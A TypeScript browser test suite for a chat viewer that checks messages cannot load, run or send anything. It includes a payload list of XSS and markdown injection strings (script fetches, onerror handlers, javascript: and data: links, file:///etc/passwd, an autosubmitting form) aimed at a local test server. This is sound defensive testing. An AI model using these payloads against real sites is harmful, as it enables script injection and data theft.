import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openWindowBench, type WindowBench } from './openWindow.ts'
import { addThread, makeWindowData } from './windowData.ts'

let bench: WindowBench
let reached: string[] = []
const sink = createServer((request, response) => { reached.push(request.url ?? ''); response.end('x') })
let host = ''

beforeAll(async () => {
  await new Promise<void>((ready) => sink.listen(0, '127.0.0.1', ready))
  host = `127.0.0.1:${(sink.address() as AddressInfo).port}`
  bench = await openWindowBench()
})
afterAll(async () => {
  await bench.close()
  await new Promise((closed) => sink.close(closed))
})

/** Ways in which text tries to run, load or send. `SINK` is a server that must never be reached. */
const payloads = [
  '<script>fetch("http://SINK/script")</script>', '<script src="http://SINK/script-src"></script>', '<img src="http://SINK/img">', '<img src=x onerror="fetch(\'http://SINK/onerror\')">',
  '![picture](http://SINK/md-img)', '![picture][ref]\n\n[ref]: http://SINK/md-ref', '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)', '<svg onload="fetch(\'http://SINK/svg\')"><image href="http://SINK/svg-image"/></svg>',
  '<iframe src="http://SINK/frame"></iframe>', '<iframe srcdoc="<script>fetch(\'http://SINK/srcdoc\')</script>"></iframe>', '<object data="http://SINK/object"></object>', '<embed src="http://SINK/embed">',
  '<meta http-equiv="refresh" content="0;url=http://SINK/meta">', '<link rel="stylesheet" href="http://SINK/css">', '<link rel="prefetch" href="http://SINK/prefetch">', '<base href="http://SINK/">',
  '<form action="http://SINK/form"><input name="q" value="secret" autofocus onfocus="this.form.submit()"></form>', '<style>@import url("http://SINK/style");</style>', '<div style="background:url(http://SINK/style-attr)">x</div>', '<video poster="http://SINK/poster" src="http://SINK/video" autoplay></video>',
  '<audio src="http://SINK/audio" autoplay></audio>', '<body background="http://SINK/body" onload="fetch(\'http://SINK/body-load\')">', '<details open ontoggle="fetch(\'http://SINK/toggle\')">x</details>', '<a href="javascript:fetch(\'http://SINK/js\')">raw link</a>',
  '[js](javascript:fetch("http://SINK/js-link"))', '[js](JaVaScRiPt:alert(1))', '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[vb](vbscript:msgbox(1))', '[file](file:///etc/passwd)', '[relative](/api/call)', '[//](//SINK/protocol-relative)',
  '[user](http://user:pass@SINK/user)', '[long](http://SINK/' + 'a'.repeat(3000) + ')', '<http://SINK/autolink>', 'http://SINK/bare', '[^1]\n\n[^1]: ![x](http://SINK/footnote)', '| a |\n|---|\n| ![x](http://SINK/table) |',
  '```html\n<img src="http://SINK/code">\n```', '`<img src="http://SINK/inline-code">`', '> ![x](http://SINK/quote)', '- [ ] ![x](http://SINK/task)', '<math><mtext><img src="http://SINK/math"></mtext></math>', '<noscript><p title="</noscript><img src=http://SINK/mxss>">',
  '<table background="http://SINK/tbg"><tr><td>x</td></tr></table>', '<picture><source srcset="http://SINK/srcset"><img src="http://SINK/pic"></picture>', '![x](http://SINK/a "t\\"onerror=\\"alert(1)")', '<marquee onstart="fetch(\'http://SINK/marquee\')">x</marquee>', '&lt;img src=http://SINK/entity&gt;',
  '```mermaid\ngraph TD; A[<img src=http://SINK/mermaid>] --> B\n```', '$$\\href{javascript:alert(1)}{x}$$', '[![nested](http://SINK/nested)](http://SINK/outer)', '<x-foo onclick="alert(1)">custom</x-foo>', '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
]

function openWith(texts: string[]) {
  const data = makeWindowData()
  addThread(data, 'conv-0', texts.flatMap((text) => [{ role: 'user' as const, text }, { role: 'assistant' as const, text }]))
  return bench.open(data)
}

test('[W2] nothing that a message says is loaded, run or sent', async () => {
  reached = []
  const { page, strayRequests, close } = await openWith(payloads.map((one) => one.replaceAll('SINK', host)))
  await page.getByRole('button', { name: 'Knee rehab plan' }).first().click()
  await page.locator('article').first().waitFor()
  await expect.poll(async () => {
    await page.locator('[data-pane]').evaluate((one) => { one.scrollTop = 0 })
    return await page.locator('article').count()
  }).toBe(payloads.length * 2)
  await page.waitForTimeout(300)
  const active = await page.locator('article').locator('img, script, iframe, object, embed, link, meta, style, form, video, audio, base, svg image, math, picture, [onerror], [onload], [href], [src], [srcset], [background], [action]').evaluateAll((all) => all.map((one) => one.outerHTML))
  expect(active).toEqual([])
  expect(strayRequests).toEqual([])
  expect(reached).toEqual([])
  await close()
})

test('[W2] the control: a page without these guards reaches the same sink with the same text', async () => {
  reached = []
  const { page, strayRequests, close } = await bench.open(makeWindowData())
  const unguarded = await page.context().newPage()
  await unguarded.setContent(payloads.slice(0, 4).join('\n').replaceAll('SINK', host))
  await expect.poll(() => reached).toContain('/img')
  expect(strayRequests.length).toBeGreaterThan(0)
  await close()
})

test('[W2] raw HTML is shown as the text it is', async () => {
  const { page, close } = await openWith(['before <b onclick="x()">bold</b> after'])
  await page.getByRole('button', { name: 'Knee rehab plan' }).first().click()
  await expect.poll(() => page.getByRole('article', { name: 'Answer' }).innerText()).toContain('before <b onclick="x()">bold</b> after')
  await close()
})

test('[W3] a link asks first, with its whole address, and has none in the page', async () => {
  const { page, close } = await openWith([`See [the docs](http://${host}/docs?q=1), [js](javascript:alert(1)), [mail](mailto:a@b.org) and [pass](https://me:secret@b.org).`])
  await page.getByRole('button', { name: 'Knee rehab plan' }).first().click()
  const answer = page.getByRole('article', { name: 'Answer' })
  await expect.poll(() => answer.getByRole('link').allInnerTexts()).toEqual(['the docs', 'mail'])
  expect(await answer.locator('[href]').count()).toBe(0)
  await answer.getByRole('link', { name: 'the docs' }).click()
  const question = page.getByRole('dialog')
  await expect.poll(() => question.innerText()).toContain(`http://${host}/docs?q=1`)
  reached = []
  await question.getByRole('button', { name: 'Stay here' }).click()
  expect(reached).toEqual([])
  await answer.getByRole('link', { name: 'the docs' }).focus()
  await page.keyboard.press('Enter')
  const [opened] = await Promise.all([page.context().waitForEvent('page'), page.getByRole('dialog').getByRole('button', { name: 'Open' }).click()])
  await expect.poll(() => reached).toContain('/docs?q=1')
  expect(await opened.evaluate(() => window.opener)).toBeNull()
  await close()
})

test('[W1] drawing every screen breaks the page policy nowhere', async () => {
  const { page, troubles, strayRequests, close } = await bench.open(makeWindowData())
  await page.getByRole('button', { name: 'Rust lifetimes, gently' }).first().click()
  await page.locator('.code-keyword').first().waitFor()
  for (const keys of ['Control+i', 'Control+k', 'Escape', 'Control+/', 'Escape', 'Control+l', 'Escape', 'Control+,', 'Escape']) { await page.keyboard.press(keys); await page.waitForTimeout(80) }
  for (const name of ['Memories', 'Privacy', 'Costs']) await page.getByRole('navigation', { name: 'Pages' }).getByRole('button', { name }).click()
  expect(troubles).toEqual([])
  expect(strayRequests).toEqual([])
  await close()
})
